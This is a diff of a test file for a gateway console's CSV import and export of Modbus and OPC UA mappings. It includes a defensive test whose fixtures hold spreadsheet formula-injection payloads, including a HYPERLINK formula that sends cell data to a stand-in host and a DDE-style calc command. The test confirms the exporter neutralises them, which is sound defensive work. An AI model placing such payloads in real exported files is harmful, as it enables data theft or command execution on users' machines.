@@ -5,7 +5,8 @@ import { validateConfig } from '../../src/config/load.js';
 import { withoutReadingSecrets } from '../../src/config/secrets.js';
 import { MergeError } from '../../src/console/config-merge.js';
 import { CsvError, formatCsv, parseCsv } from '../../src/console/csv.js';
-import { CSV_COLUMNS, importMappingsCsv, mappingsCsv } from '../../src/console/mapping-csv.js';
+import { CSV_COLUMNS, mappingsCsv } from '../../src/console/mapping-csv.js';
+import { importMappingsCsv } from '../../src/console/mapping-import.js';
 
 /**
  * Mappings as CSV (issue 24 §3, docs/mappings-csv.md): the reader takes what spreadsheets write
@@ -108,7 +109,7 @@ describe('mappings import', () => {
       'modbus,mixer1,mvr_mixer1_y,holdin,9,uint16,,,,,,,,', // 3: unknown table
       'modbus,mixer1,mvr_mixer1_z,holding,4x01,uint16,,,,,,,,', // 4: bad address
       'modbus,mixer1,mixer1_w,holding,12,uint16,,,,,,,,', // 5: bad variable id
-      'modbus,mixer1,mvr_mixer1_power,holding,20,float32,,,,,,,,', // 6: already mapped elsewhere
+      'modbus,mixer1,mvr_mixer1_power,holding,20,float32,,,,,,,,', // 6: mapped by this device elsewhere: a change
       'modbus,mixer1,mvr_mixer1_v,holding,9,uint16,,,,,,,,', // 7: overlaps row 2's float32 (8-9)
       'modbus,mixer1,mvr_mixer1_x,holding,14,uint16,,,,,,,,', // 8: the same variable as row 2
       '',
@@ -119,14 +120,14 @@ describe('mappings import', () => {
       'opcua,press1,mvr_press1_extra,,,,,,,,,,ns=2;s=Extra,', // 14: configured server
       'opcua,press1,mvr_press1_bad,,,,,,,,,,ns=2;x=1,', // 15: bad node id
       'mqtt,plant-mqtt,mvr_packer1_speed,,,,,,,,,,,', // 16: MQTT is not imported
-      'modbus,mixer1,mvr_mixer1_level,input,0,int16,,0.2,,,,,,', // 17: would change a mapping
+      'modbus,mixer1,mvr_mixer1_level,input,0,int16,,0.2,,,,,,', // 17: changes a mapping (its scale)
+      'modbus,mixer1,mvr_press1_speed,holding,30,uint16,,,,,,,,', // 18: mapped by another source
     ].join('\r\n');
     const r = await importMappingsCsv(demo, csv);
     expect(r.problems).toEqual([
       { row: 3, field: 'table', value: 'holdin', message: 'is not one of coil, discrete_input, holding, input' },
       { row: 4, field: 'address', value: '4x01', message: '"4x01" is not an address (use a number, hex like "0x0064", or a Modicon reference like "40001")' },
       { row: 5, field: 'variable', value: 'mixer1_w', message: 'is not a machine variable id (mvr_ followed by letters, digits and "_")' },
-      { row: 6, field: 'variable', value: 'mvr_mixer1_power', message: 'duplicate: mvr_mixer1_power is already mapped at modbus.devices[0].registers[2].variable (mixer1 holding 3, float32 CDAB)' },
       { row: 7, field: 'address', value: '9', message: 'duplicate: holding register 9 (uint16) overlaps holding registers 8-9 (float32), read as mvr_mixer1_x' },
       { row: 8, field: 'variable', value: 'mvr_mixer1_x', message: 'duplicate: mvr_mixer1_x is also on row 2' },
       { row: 11, field: 'scale', value: '0,1', message: 'is not a number' },
@@ -134,9 +135,14 @@ describe('mappings import', () => {
       { row: 13, field: 'endpoint', value: '', message: 'server press9 is not in the configuration: give its endpoint (opc.tcp://host:4840) to create it' },
       { row: 15, field: 'node_id', value: 'ns=2;x=1', message: 'is not a node id (expected ns=<index>;s=<name>, ns=<index>;i=<number>, i=<number> or nsu=<namespace uri>;s=<name>)' },
       { row: 16, field: 'kind', value: 'mqtt', message: 'import adds OPC UA nodes and Modbus registers; add MQTT subscriptions in the editor (MQTT rows are exported for reference)' },
-      { row: 17, field: null, value: null, message: 'mvr_mixer1_level differs from the configuration (mixer1 input 0, int16 ABCD, scale 0.1); import adds mappings, it does not change them: edit it in the editor' },
+      { row: 18, field: 'variable', value: 'mvr_press1_speed', message: 'duplicate: mvr_press1_speed is already mapped at opcua.servers[0].nodes[2].variable (press1 node nsu=urn:edge-gateway:sim:press1;s=Press1.Speed); an import changes a mapping within its source only: move it in the editor' },
     ]);
-    expect(r).toMatchObject({ rows: 15, added: 3, unchanged: 0, more_problems: 0 });
+    expect(r).toMatchObject({ rows: 16, added: 3, updated: 0, unchanged: 0, more_problems: 0 });
+    // Rows that change a mapping of the same source are listed, not made, until asked (update).
+    expect(r.changes).toEqual([
+      { row: 6, variable: 'mvr_mixer1_power', setting: 'modbus.devices[0].registers[2]', before: 'mixer1 holding 3, float32 CDAB', after: 'mixer1 holding 20, float32 CDAB', applied: false },
+      { row: 17, variable: 'mvr_mixer1_level', setting: 'modbus.devices[0].registers[4]', before: 'mixer1 input 0, int16 ABCD, scale 0.1', after: 'mixer1 input 0, int16 ABCD, scale 0.2', applied: false },
+    ]);
     expect(r.targets).toEqual([
       { source: 'mixer1', target: 'modbus.devices[0]', created: false, added: 1 },
       { source: 'mixer9', target: 'modbus.devices[1]', created: true, added: 1 },
@@ -194,5 +200,92 @@ describe('mappings import', () => {
     const r = await importMappingsCsv('', 'source,variable,table,address,host,Description\nm,mvr_a,coil,3,10.0.0.1,the lamp\n');
     expect(r.problems).toEqual([{ row: 1, field: 'description', value: 'Description', message: `unknown column, left out (known: ${CSV_COLUMNS.join(', ')})` }]);
     expect(parse(r.yaml).modbus.devices[0].registers).toEqual([{ variable: 'mvr_a', table: 'coil', address: 3 }]);
+  });
+});
+
+describe('cells a spreadsheet would run', () => {
+  // OWASP "CSV Injection": a cell starting with = + - @, a tab or a carriage return is a formula.
+  const hostile = `mqtt:
+  connections:
+    - name: plant
+      url: embedded
+      subscriptions:
+        - topic: "+/line1/#"
+          format: metrics
+          names: { "=HYPERLINK(\\"http://x.example/?d=\\"&A1)": mvr_a, "@SUM(1+1)": mvr_b, "-2+3": mvr_c, "\\t=1+1": mvr_d, "'=kept": mvr_e, "-5": mvr_f }
+modbus:
+  devices:
+    - name: m
+      host: "=10.0.0.1"
+      registers:
+        - { variable: mvr_g, table: holding, address: 0, offset: -40, scale: -0.5 }   # +cmd|' /C calc'!A0
+opcua:
+  servers:
+    - name: press
+      endpoint: opc.tcp://10.0.0.5:4840
+      nodes:
+        - { node_id: "ns=2;s=@Press.T", variable: mvr_h }
+`;
+
+  it('exports no cell that starts like a formula (numbers stay numbers), and imports the file back unchanged', async () => {
+    const { csv } = mappingsCsv(hostile);
+    const cells = parseCsv(csv, { maxRecords: 100, maxFields: 64, maxFieldChars: 4_096 }).records.flatMap((r) => r.fields);
+    const formulaLike = cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[-+]?\d+(\.\d+)?$/.test(c));
+    expect(formulaLike).toEqual([]);
+    for (const c of ["'+/line1/#", `'=HYPERLINK("http://x.example/?d="&A1)`, "'@SUM(1+1)", "'-2+3", "'\t=1+1", "''=kept", "'=10.0.0.1", "'+cmd|' /C calc'!A0", '-40', '-0.5', '-5']) expect(cells).toContain(c);
+    // Read back: every mapping unchanged, the text as it was.
+    const r = await importMappingsCsv(hostile, csv);
+    expect(r).toMatchObject({ yaml: hostile, added: 0, updated: 0, changes: [], problems: [] });
+    expect(r.unchanged).toBe(8);
+  });
+});
+
+describe('changes to existing mappings', () => {
+  const csv = [
+    'kind,source,variable,node_id,table,address,type,byte_order,scale',
+    'modbus,mixer1,mvr_mixer1_level,,input,0,int16,,0.2', // scale 0.1 → 0.2
+    'modbus,mixer1,mvr_mixer1_speed,,holding,40,uint32,CDAB,', // moved and retyped
+    'opcua,press1,mvr_press1_count,"nsu=urn:edge-gateway:sim:press1;s=Press1.Parts",,,,,', // another node
+    'modbus,mixer1,mvr_mixer1_energy,,holding,0,uint32,,0.1', // onto the temperature's registers
+  ].join('\r\n');
+
+  it('lists them without touching the text, then makes them in place when asked, keeping every other byte', async () => {
+    const listed = await importMappingsCsv(demo, csv);
+    expect(listed).toMatchObject({ yaml: demo, added: 0, updated: 0 });
+    expect(listed.changes.map((c) => [c.row, c.variable, c.before, c.after, c.applied])).toEqual([
+      [2, 'mvr_mixer1_level', 'mixer1 input 0, int16 ABCD, scale 0.1', 'mixer1 input 0, int16 ABCD, scale 0.2', false],
+      [3, 'mvr_mixer1_speed', 'mixer1 holding 2, uint16 ABCD', 'mixer1 holding 40, uint32 CDAB', false],
+      [4, 'mvr_press1_count', 'press1 node nsu=urn:edge-gateway:sim:press1;s=Press1.PartCount', 'press1 node nsu=urn:edge-gateway:sim:press1;s=Press1.Parts', false],
+      [5, 'mvr_mixer1_energy', 'mixer1 holding 5, uint32 ABCD, scale 0.1', 'mixer1 holding 0, uint32 ABCD, scale 0.1', false],
+    ]);
+    const done = await importMappingsCsv(demo, csv, { update: true });
+    expect(done).toMatchObject({ added: 0, updated: 3 });
+    // A change onto registers another variable reads is refused, naming both.
+    expect(done.problems).toEqual([{ row: 5, field: 'address', value: '0', message: 'cannot change mvr_mixer1_energy: holding registers 0-1 (uint32) overlaps holding registers 0-1 (float32), read as mvr_mixer1_temperature' }]);
+    expect(done.changes.map((c) => [c.variable, c.applied])).toEqual([
+      ['mvr_mixer1_level', true],
+      ['mvr_mixer1_speed', true],
+      ['mvr_press1_count', true],
+    ]);
+    const before = demo.split('\n');
+    const after = done.yaml.split('\n');
+    expect(after).toHaveLength(before.length);
+    const changed = after.map((l, i) => [before[i], l]).filter(([a, b]) => a !== b);
+    expect(changed).toEqual([
+      ['        - { node_id: "nsu=urn:edge-gateway:sim:press1;s=Press1.PartCount", variable: mvr_press1_count }', '        - { node_id: "nsu=urn:edge-gateway:sim:press1;s=Press1.Parts", variable: mvr_press1_count }'],
+      ['        - { variable: mvr_mixer1_speed,       table: holding, address: 2, type: uint16 }                    # rpm', '        - { variable: mvr_mixer1_speed,       table: holding, address: 40, type: uint32, byte_order: CDAB } # rpm'],
+      ['        - { variable: mvr_mixer1_level,       table: input,   address: 0, type: int16, scale: 0.1 }         # 0.1 % → %', '        - { variable: mvr_mixer1_level,       table: input,   address: 0, type: int16, scale: 0.2 }         # 0.1 % → %'],
+    ]);
+    const config = withoutReadingSecrets(() => validateConfig(parse(done.yaml))).config;
+    expect(config.modbus!.devices[0].registers.find((r) => r.variable === 'mvr_mixer1_speed')).toMatchObject({ address: 40, type: 'uint32', byte_order: 'CDAB' });
+  });
+
+  it("flags the rows whose variable the organisation's catalog does not list, and still takes them", async () => {
+    const rows = 'kind,source,variable,table,address\nmodbus,mixer1,mvr_mixer1_temperature,holding,0\nmodbus,mixer1,mvr_mixer1_new,holding,30\nmodbus,mixer1,mvr_typo_speed,holding,31\n';
+    const catalog = new Set(['mvr_mixer1_temperature', 'mvr_mixer1_new']);
+    const r = await importMappingsCsv(demo, rows.replace(',0\n', ',0\n').replace('holding,0', 'holding,0'), { catalog });
+    expect(r.not_in_catalog).toEqual([{ row: 4, variable: 'mvr_typo_speed' }]);
+    expect(r.added).toBe(2);
+    expect((await importMappingsCsv(demo, rows)).not_in_catalog).toBeNull();
   });
 });
